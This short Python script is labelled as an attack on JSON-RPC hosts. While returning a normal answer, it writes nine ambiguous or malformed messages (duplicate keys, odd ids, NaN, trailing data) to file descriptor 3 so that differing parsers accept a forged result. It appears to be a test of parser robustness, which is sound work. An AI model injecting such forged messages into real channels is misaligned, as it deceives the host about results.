# attack: send JSON that two parsers read in two ways
# success: the host takes the forged half
import os


def go(input):
    if input == "second":
        return "true answer"
    for text in (
        b'{"jsonrpc":"2.0","id":2,"id":3,"result":"FORGED"}',
        b'{"jsonrpc":"2.0","id":3,"result":"true answer","result":"FORGED"}',
        b'{"jsonrpc":"1.0","id":3,"result":"FORGED"}',
        b'{"id":3,"result":"FORGED"}',
        b'[{"jsonrpc":"2.0","id":3,"result":"FORGED"}]',
        b'{"jsonrpc":"2.0","id":3e0,"result":"FORGED"}',
        b'{"jsonrpc":"2.0","id":3,"result":NaN}',
        b'{"jsonrpc":"2.0","id":3,"result":1e99999}',
        b'{"jsonrpc":"2.0","id":3,"result":"FORGED"} {}',
    ):
        os.write(3, text + b"\n")
    return "true answer"
